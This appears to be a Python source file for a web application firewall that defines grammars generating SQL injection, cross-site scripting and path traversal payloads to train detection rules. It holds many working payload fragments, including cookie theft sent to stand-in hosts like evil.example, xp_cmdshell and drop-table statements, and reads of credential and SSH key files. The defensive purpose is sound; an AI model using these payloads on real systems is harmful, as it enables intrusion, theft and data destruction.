"""Grammars of the attacks that public corpora have many of: SQL, script in pages, paths. Lists repeat few shapes a thousand
times; these put together what the languages' manuals allow, so that rules are learned from shapes that no list has."""

from __future__ import annotations

from bascule.waf.logic.learn.grammar import Grammar

SQL: Grammar = {
    "start": ["<number><logic><condition><tail>", "<number>)<logic>(<condition>", "<number><logic>(<condition>)<tail>", "<text>'<logic><condition><tail>", "<text>'<logic><condition><logic>'<n>'='<n>",
              "<text>')<logic>(<condition>", "<text>'<logic>'<word>' <like> '<word>", "<text>'||<value>||'", "<text>'<math>(<value>)<math>'<n>", "<text>\"<logic><condition><tail>", "<number> union<all> select <columns> from <table><tail>",
              "<text>' union<all> select <columns><tail>", "<number>)<space>union<all><space>select<space><columns><tail>", "<number>;<statement><tail>", "<text>';<statement>--", "<name>,(select <value> from <table>)", "(case when <condition> then <name> else <name> end)",
              "<number> and <error>", "<text>' and <error><tail>", "<number><math>(<delay>)", "<text>'<logic><delay><tail>", "<number> procedure analyse(<error>,1)", "<number> order by <n><tail>", "<text>' order by <n>-- ", "<number> and <guess>><n>", "<text>' and <guess>=<n><tail>",
              "(select <value>)", "if(<condition>,<delay>,0)", "<number> div <n> or <condition>", "<text>' having <condition><tail>", "<number> group by <name> having <condition>", "<number> is not distinct from <n>", "<number> in (select <name> from <table>)", "<text>' and exists(select <n> from <table> where <condition>)<tail>"],
    "number": ["1", "-1", "42", "7", "0", "99999", "-5"], "text": ["", "x", "anne", "blue shoes", "admin", "q%", "a@b.example"], "word": ["a", "x", "admin", "q"], "n": ["1", "2", "5", "7", "64", "100"],
    "logic": [" or ", " and ", " || ", " && ", " xor ", "/**/or/**/", "/**/and/**/", " OR ", "\tor\n", " or not ", " and not "], "tail": ["", "", "--", "-- -", "#", "/*", ";--", " -- x"], "space": [" ", "/**/", "\n", "\t", "%0a"],
    "like": ["like", "=", "<>", "rlike", "regexp", "between 'a' and"], "math": ["-", "+", "*", "%", "^", "|"], "all": ["", " all", " distinct", " distinctrow"],
    "condition": ["<value>=<value>", "<n>=<n>", "<value> > <n>", "<name> like '<word>%'", "<name> is not null", "<name> between <n> and <n>", "<name> in (<n>,<n>)", "(<value>)>(<n>)", "exists(select <n> from <table>)", "length(<value>)><n>", "<n> <> <n>", "<name>=<name>", "true", "not false", "row(<n>,<n>)>(select <n>,<n>)"],
    "value": ["<n>", "'<word>'", "<name>", "<ask>", "<call>(<ask>)", "<call>(<name>)", "(select <ask>)", "(select <name> from <table> limit 1)", "(select count(*) from <table>)", "0x41", "char(65)", "@@version", "null"],
    "ask": ["version()", "user()", "database()", "current_user", "@@hostname", "sqlite_version()", "current_database()", "user", "banner", "sys_context('userenv','db_name')"],
    "call": ["ascii", "hex", "length", "lower", "quarter", "md5", "unhex", "upper", "to_char", "quote", "reverse", "crc32", "typeof"], "name": ["id", "name", "price", "password", "role", "username", "email"],
    "columns": ["<value>", "<value>,<value>", "null,null,<value>", "<name>||'~'||<name>", "<name>,<name>", "group_concat(<name>)", "concat(<name>,0x3a,<name>)", "string_agg(<name>,',')", "1,2,3", "*"],
    "table": ["users", "information_schema.tables", "sqlite_master", "all_tables", "accounts", "dual", "pg_user", "sysobjects", "members"],
    "statement": ["drop table <table>", "select <delay>", "insert into <table>(<name>) values('<word>')", "update <table> set <name>='<word>'", "delete from <table>", "exec xp_cmdshell 'dir'", "waitfor delay '0:0:<n>'", "create user <word> identified by '<word>'", "copy <table> to program 'id'", "declare @x int", "grant all on <table> to <word>", "truncate table <table>", "shutdown"],
    "error": ["extractvalue(1,concat(0x7e,<ask>))", "updatexml(1,concat(0x7e,(select <ask>)),1)", "1=cast((select <ask>) as int)", "1=convert(int,<ask>)", "(select 1 from (select count(*),concat(<ask>,floor(rand(0)*2))x from information_schema.tables group by x)a)", "gtid_subset(<ask>,1)", "json_keys((select convert(<ask> using utf8)))", "ctxsys.drithsx.sn(1,<ask>)", "xmltype('<:'||<ask>||'>') is not null", "exp(~(select*from(select <ask>)a))", "st_latfromgeohash(<ask>)", "1=(select 1/0 from dual)"],
    "delay": ["sleep(<n>)", "pg_sleep(<n>)", "benchmark(<n>000000,md5(1))", "dbms_pipe.receive_message('a',<n>)", "randomblob(<n>00000000)", "(select sleep(<n>))", "(select count(*) from generate_series(1,<n>000000))", "dbms_session.sleep(<n>)"],
    "guess": ["ascii(substr((select <name> from <table> limit 1),<n>,1))", "ord(mid(<ask>,<n>,1))", "ascii(substring(<ask>,<n>,1))", "(select length(<ask>))", "unicode(substr(<ask>,<n>,1))", "position('a' in <ask>)"],
}  # fmt: skip

HTML: Grammar = {
    "start": ["<open>", "<break><open>", "<quote><gap><event>=<js> <quote>", "<quote> autofocus <event>=<js> x=<quote>", "<string><js><string2>", "</script><open>", "<word><open>", "<uri>", "<link>", "<break><link>", "<open></<tag>>"],
    "break": ["\">", "'>", ">", "</title>", "</textarea>", "</style>", "-->", "</select>", "</noscript>", "]]>"], "quote": ["\"", "'", "x\" ", "x' ", "\" style=\"x\" "], "word": ["x", "hello ", "1", "a b "],
    "gap": [" ", "/", "\n", "\t", "\x0c"], "open": ["<<tag><gap><event>=<js>>", "<<tag><gap>src=x<gap><event>=<js>>", "<script><js></script>", "<script src=//<host>></script>", "<svg><gap><event>=<js>>", "<svg><animate <event>=<js> attributeName=x dur=1s>", "<svg><set <event>=<js>>", "<iframe srcdoc='<img src=x <event>=<js>>'>", "<<tag> <event>=\"<js>\">", "<input autofocus <event>=<js>>", "<details open ontoggle=<js>>", "<style>@import '//<host>/a.css'</style>", "<base href=//<host>/>", "<object data=<uri>>", "<embed src=<uri>>", "<meta http-equiv=refresh content='0;url=<uri>'>", "<math><mtext><img src <event>=<js>>", "<<tag> style=animation-name:x onanimationstart=<js>>", "<video><source <event>=<js>>", "<form><button formaction=<uri>>x", "<link rel=stylesheet href=//<host>/a.css>"],
    "tag": ["img", "svg", "body", "x", "a", "div", "input", "video", "audio", "marquee", "select", "details", "iframe", "p", "textarea", "object", "custom-tag", "image", "button", "table", "xss", "keygen", "isindex"],
    "event": ["onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onpointerenter", "onanimationend", "onwheel", "oncut", "onbeforeinput", "onscrollend", "onhashchange", "onpageshow", "ONERROR", "onmessage", "onfocusin", "ontransitionrun", "onauxclick", "oncanplay"],
    "js": ["alert(1)", "alert`1`", "confirm(document.domain)", "prompt(1)", "eval(atob('YWxlcnQoMSk='))", "location='//<host>/?'+document.cookie", "fetch('//<host>/'+document.cookie)", "import('//<host>/a.js')", "top['al'+'ert'](1)", "(alert)(1)", "self[`alert`](1)", "Function('alert(1)')()", "new Image().src='//<host>/'+document.cookie", "window.location.replace('//<host>')", "navigator.sendBeacon('//<host>',document.cookie)", "document.write('<script src=//<host>></script>')", "setTimeout('alert(1)')", "[1].find(alert)", "document.body.innerHTML='x'", "throw onerror=alert,1", "al\\u0065rt(1)", "parent.postMessage(document.cookie,'*')", "localStorage.getItem('token')", "open('//<host>')", "$.getScript('//<host>/a.js')", "&#97;lert(1)", "window.name", "eval(name)", "import(location.hash.slice(1))"],
    "string": ["';", "\";", "'-", "\"-", "');", "`;", "${", "\\';", "'+", "*/", "\n"], "string2": ["//", ";'", "-'", "+'", "}", "/*", "", "<!--"],
    "uri": ["javascript:<js>", "JaVaScRiPt:<js>", "java\tscript:<js>", "javascript&colon;<js>", "data:text/html,<script><js></script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "javascript://%0a<js>", "\x01javascript:<js>"],
    "link": ["<a href=<uri>>x</a>", "<a href='<uri>'>x", "[x](<uri>)", "<area href=<uri>>", "<svg><a xlink:href=<uri>><text>x", "<form action=<uri>><input type=submit>", "<iframe src=<uri>>", "<img src=<uri>>", "<use href='data:image/svg+xml,<svg id=x><script>1</script></svg>#x'>"],
    "host": ["evil.example", "198.51.100.7", "x7f3.attacker.test", "203.0.113.9:8443"],
}  # fmt: skip

PATH: Grammar = {
    "start": ["<climbs><file>", "<folder>/<climbs><file>", "/<climbs><file><end>", "<scheme><file>", "<climbs><file><end>", "<absolute>", "<scheme>php://input", "<windows>", "<folder>/<climbs><windowsfile>"],
    "climbs": ["<up><up><up>", "<up><up>", "<up><up><up><up><up>", "<up><up><up><up><up><up><up><up>"], "up": ["../", "..\\", "....//", "..%2f", "%2e%2e/", "..;/", "..%c0%af", "..././", "%2e%2e%5c", "..%252f", ".%2e/", "..//", "..\\/"],
    "file": ["etc/passwd", "etc/hosts", "etc/shadow", "proc/self/environ", "proc/self/cmdline", "var/log/auth.log", "etc/issue", "home/app/.ssh/id_rsa", "root/.bash_history", "app/.env", "WEB-INF/web.xml", "etc/nginx/nginx.conf", "var/www/html/wp-config.php", "etc/kubernetes/admin.conf", ".aws/credentials", "config/database.yml", "var/run/secrets/kubernetes.io/serviceaccount/token"],
    "windowsfile": ["windows/win.ini", "boot.ini", "windows\\system32\\drivers\\etc\\hosts", "inetpub\\wwwroot\\web.config"], "folder": ["images", "static/css", "download", "x", "/var/www", "files"], "end": ["", "%00", "%00.jpg", "\x00", "\x00.png", "?", "#"],
    "scheme": ["file:///", "php://filter/convert.base64-encode/resource=", "php://filter/read=string.rot13/resource=/", "zip://a.jpg#", "phar://a.jpg/", "compress.zlib:///", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==,", "expect://", "glob:///", "jar:file:///a.jar!/"],
    "absolute": ["/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/cmdline", "/var/log/apache2/access.log", "/root/.ssh/id_rsa", "/WEB-INF/web.xml", "/home/app/.aws/credentials"], "windows": ["C:\\Windows\\win.ini", "c:/boot.ini", "C:\\inetpub\\wwwroot\\web.config", "\\\\198.51.100.7\\share\\a", "file:///c:/windows/win.ini"],
}  # fmt: skip

GRAMMARS: dict[str, tuple[str, Grammar]] = {"sql": ("sqli", SQL), "html": ("xss", HTML), "path": ("traversal", PATH)}
"""Grammars by name, with the class of attack they are of."""
